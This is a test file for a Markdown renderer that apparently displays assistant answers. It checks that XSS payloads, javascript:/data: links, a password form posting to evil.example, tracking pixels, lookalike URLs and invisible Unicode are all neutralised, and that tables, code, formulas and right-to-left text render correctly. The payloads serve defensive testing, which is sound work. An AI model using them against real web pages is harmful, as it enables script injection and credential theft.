import { act, fireEvent, screen, waitFor } from '@testing-library/react'
import { beforeAll, describe, expect, it, vi } from 'vitest'

import { show } from '@/testing/render'

import { Markdown } from '.'

function proseOf(text: string, language?: string): HTMLElement {
  return show(<Markdown text={text} language={language} />).container.querySelector<HTMLElement>('.prose')!
}

/** The same, once colors and formulas are there. */
async function equippedProseOf(text: string): Promise<HTMLElement> {
  const { container } = await act(async () => show(<Markdown text={text} />))
  return container.querySelector<HTMLElement>('.prose')!
}

beforeAll(() => Promise.all([import('./highlight'), import('./typeset')]))

/** Everything that could run, load or leave: elements and attributes. */
function dangersIn(prose: HTMLElement): string[] {
  const elements = [...prose.querySelectorAll('*')]
  const links = elements.flatMap((element) => [element.getAttribute('href'), element.getAttribute('src')])
  return [
    ...elements.map(({ localName }) => localName).filter((name) => !SAFE.has(name)),
    ...elements.flatMap((element) => element.getAttributeNames()).filter((name) => /^on|^style$|^srcdoc$|^id$|^name$/.test(name)),
    ...links.filter((link) => link !== null).filter((link) => !/^(https?:\/\/|mailto:)/.test(link)),
  ]
}

const SAFE = new Set(
  'a blockquote br code del div em h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul'.split(' '),
)

describe('hostile Markdown', () => {
  it.each([
    '<script>alert(1)</script>',
    'a <script src="https://evil.example/x.js"></script> b',
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"><path d="M0 0"/></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '[here](javascript:alert(1))',
    '[here](JaVaScRiPt:alert(1))',
    '[here](&#106;avascript:alert(1))',
    '[here](data:text/html,<script>alert(1)</script>)',
    '[here](vbscript:msgbox)',
    '[here](file:///etc/passwd)',
    '<javascript:alert(1)>',
    '[here](/admin/logout/)',
    '[here](//evil.example/)',
    '![pixel](https://tracker.example/pixel.png)',
    '![](javascript:alert(1))',
    '[here][ref]\n\n[ref]: javascript:alert(1)',
    '![x][ref]\n\n[ref]: https://tracker.example/ref.png',
    '```"><script>alert(1)</script>\ncode\n```',
  ])('is harmless: %s', async (text) => {
    expect(dangersIn(await equippedProseOf(`${text}\n\nThe end.`))).toEqual([])
  })

  it('shows HTML as the words that it is, so that nothing of an answer is hidden', () => {
    expect(proseOf('Before <b onclick="x()">bold</b>.\n\n<div>\nAfter.\n</div>').textContent).toBe(
      'Before <b onclick="x()">bold</b>.<div>\nAfter.\n</div>',
    )
  })

  it('shows an image as a link to it, never the image', () => {
    const prose = proseOf('![A pot](https://example.org/pot.png)')

    expect(prose.querySelector('img')).toBeNull()
    expect(prose.querySelector('a')!.textContent).toBe('🖼 A pot (example.org ↗)')
    expect(prose.querySelector('a')!.href).toBe('https://example.org/pot.png')
  })

  it.each([
    ['[bank.example](https://bank.example@evil.example/)', 'bank.example (evil.example ↗)'],
    ['[раураl](https://раураl.example/)', 'раураl (xn--l-7sba6dbr.example ↗)'],
    ['[write](mailto:ada@example.org)', 'write (ada@example.org ↗)'],
    ['https://example.org/page', 'https://example.org/page ↗'],
  ])('says where a link leads: %s', (text, shown) => {
    const link = proseOf(text).querySelector('a')!

    expect(link.textContent).toBe(shown)
    expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer nofollow'])
  })

  it('asks before a link is followed, and calls the click no click on the answer', async () => {
    const clicked = vi.fn()
    show(<div onClick={clicked}><Markdown text="[here](https://example.org/page?a=1)" /></div>)

    const wentThere = fireEvent.click(screen.getByRole('link', { name: /here/ }))
    const dialog = await screen.findByRole('dialog')
    fireEvent.click(screen.getByText('https://example.org/page?a=1'))

    expect(wentThere).toBe(false)
    expect(dialog.textContent).toContain('Leave for example.org?')
    expect(screen.getByRole<HTMLAnchorElement>('link', { name: 'Open in a new tab' }).href).toBe('https://example.org/page?a=1')
    expect(clicked).not.toHaveBeenCalled()
  })

  it.each([
    ['a\u202Eb', 'aU+202Eb'],
    ['if (a\u2066) // \u2069', 'if (aU+2066) // U+2069'],
    ['`pass\u200Bword`', 'passU+200Bword'],
    ['```\nx\u202Ey\n```', 'xU+202Ey\n'],
    ['\u0007\u001B', '␇␛'],
    ['a\u{E0041}\u{E0042}', 'aU+E0041U+E0042'],
    [`a${'\u200B'.repeat(5000)}b`, 'aU+200B×5000b'],
    [`Z${'\u0301'.repeat(500)}!`, `Z${'\u0301'.repeat(8)}U+0301×492!`],
    ['$x\u202E$', 'xU+202E'],
    ['👩\u200D'.repeat(7) + '👩', `${'👩\u200D'.repeat(5)}👩U+200D👩U+200D👩`],
  ])('makes visible what nobody sees: %j', async (text, shown) => {
    expect((await equippedProseOf(text)).textContent).toBe(shown)
  })

  it.each([
    'می‌خواهم', // A joiner that Persian needs.
    '👩‍👩‍👧 ❤️ 🏴󠁧󠁢󠁳󠁣󠁴󠁿 1️⃣',
    'שלום\u200F!',
    'क्‍ष',
  ])('leaves such signs alone where they belong: %s', (text) => {
    expect(proseOf(text).textContent).toBe(text)
  })

  it.each([
    ['[', 30_000], ['![', 30_000], ['[a](', 15_000], ['*a_ ', 15_000], ['**a *b ', 8_000], ['> ', 30_000], ['- ', 30_000],
    ['1. ', 20_000], ['`e``', 15_000], ['\\(', 30_000], ['$$a\n', 14_000], ['\\[a\n', 14_000], ['|a', 30_000], ['<', 60_000], ['&', 60_000], ['\n', 60_000],
  ])('of many %j is read to its end', (sign, times) => {
    expect(proseOf(sign.repeat(times)).isConnected).toBe(true)
  })

  it('of enormous length is shown as it is, without being read', () => {
    const text = '> '.repeat(40_000)

    const prose = proseOf(text)

    expect(prose.querySelector('.plain-text')!.textContent).toBe(text)
    expect(prose.querySelector('.plain-note')).not.toBeNull()
  })

  it.each([
    ['a table of 5,000 rows', `|a|b|\n|-|-|\n${'|c|d|\n'.repeat(5000)}`],
    ['a quote in a quote in a quote', `${'> '.repeat(90)}deep`],
    ['emphasis within emphasis', `${'*a '.repeat(400)}${'a* '.repeat(400)}`],
  ])('that would be too much to lay out, as %s, is shown as it is from there', (_, text) => {
    const prose = proseOf(`**First.**\n\n${text}`)

    expect(prose.querySelector('strong')!.textContent).toBe('First.')
    expect(prose.querySelector('.plain-text')!.textContent).toBe(text)
    expect(prose.querySelectorAll('*').length).toBeLessThan(50)
  })
})

describe('honest Markdown', () => {
  it('has its tables, in a frame that can be scrolled by keys', () => {
    const prose = proseOf('| step | why |\n| --- | ---: |\n| toast<br>cumin | aroma |')

    expect([...prose.querySelectorAll('th, td')].map((cell) => cell.textContent)).toEqual(['step', 'why', 'toastcumin', 'aroma'])
    expect(prose.querySelector('td:last-child')!.getAttribute('data-align')).toBe('right')
    expect(prose.querySelector('td br')).not.toBeNull()
    expect(prose.querySelector<HTMLElement>('.scroll-x')!.tabIndex).toBe(0)
  })

  it('has its code, spaces and signs as they were written, in colors once these are there', async () => {
    const prose = await equippedProseOf('```python\nif a < b:\n    print("<b>&amp;</b>")\n```\n\nSee `man  soup`.')

    expect(prose.querySelector('pre')!.textContent).toBe('if a < b:\n    print("<b>&amp;</b>")\n')
    expect(prose.querySelector('p code')!.textContent).toBe('man  soup')
    await waitFor(() => expect(prose.querySelector('.hljs-keyword')!.textContent).toBe('if'))
    expect(prose.querySelector('pre')!.textContent).toBe('if a < b:\n    print("<b>&amp;</b>")\n')
  })

  it('has code of a language that nobody knows, without colors', () => {
    expect(proseOf('```klingon\nnuqneH\n```').querySelector('pre code')!.innerHTML).toBe('nuqneH\n')
  })

  it.each([
    ['$E = mc^2$', 'formula'],
    ['\\(E = mc^2\\)', 'formula'],
    ['so $$E = mc^2$$ it is', 'formula-block'],
    ['$$\nE = mc^2\n$$', 'formula-block'],
    ['so\n\\[\nE = mc^2\n\\]\nit is', 'formula-block'],
  ])('has its formulas, for eyes and for ears: %j', async (text, name) => {
    const prose = await equippedProseOf(text)

    await waitFor(() => expect(prose.querySelector(`.${name} math`)).not.toBeNull())
    expect(prose.querySelector('annotation')!.textContent!.trim()).toBe('E = mc^2')
  })

  it.each(['It costs $5, not $10.', 'From $5 to $10 and $20', '\\$5 and 5\\$', 'a $ b $ c', '$$', '\\(', '$$ a\n\nb'])('takes no money for a formula: %s', (text) => {
    expect(proseOf(text).querySelector('code, .formula, .formula-block')).toBeNull()
  })

  it('has a formula that cannot be set as it was written', async () => {
    const prose = await equippedProseOf('$\\href{javascript:alert(1)}{x}$ $\\frac{1$ $x$')

    await waitFor(() => expect(prose.querySelector('math')).not.toBeNull())
    expect(prose.querySelector('a, [href]')).toBeNull()
    expect(prose.textContent).toContain('\\frac{1')
  })

  it('has lists, quotes, emphasis and what was crossed out', () => {
    const prose = proseOf('3. one\n4. **two**\n\n> *quoted*\n\n~~gone~~\n\n- [x] done\n- [ ] open')

    expect(prose.querySelectorAll('ol[start="3"] > li')).toHaveLength(2)
    for (const selector of ['strong', 'blockquote em', 'del']) {
      expect(prose.querySelector(selector), selector).not.toBeNull()
    }
    expect([...prose.querySelectorAll('[role=img]')].map((box) => box.getAttribute('aria-label'))).toEqual(['Done', 'Not done'])
  })

  it('has headings below those of the screen', () => {
    const prose = proseOf('# One\n\n## Two\n\n###### Six')

    expect([...prose.querySelectorAll(':is(h1, h2, h3, h4, h5, h6)')].map(({ localName }) => localName)).toEqual(['h3', 'h4', 'h6'])
  })

  it('has Chinese as it was written, and says which language it is', () => {
    const prose = proseOf('先把**洋葱**炒香，再加水。\n\n| 步骤 | 原因 |\n| --- | --- |\n| 炒 | 香 |', 'zh')

    expect(prose.querySelector('p')!.textContent).toBe('先把洋葱炒香，再加水。')
    expect(prose.querySelectorAll('td')).toHaveLength(2)
    expect(prose.lang).toBe('zh')
  })

  it('goes from right to left where its letters do, block by block', () => {
    const prose = proseOf('שלום\n\n- مرحبا\n  - قائمة\n\nHello\n\n```\nלא קוד\n```')

    const directions = [...prose.querySelectorAll<HTMLElement>('p, ul, li, pre')].map(({ localName, dir }) => `${localName} ${dir}`)
    expect(directions).toEqual(['p auto', 'ul rtl', 'li rtl', 'ul rtl', 'li rtl', 'p auto', 'pre ltr'])
  })
})
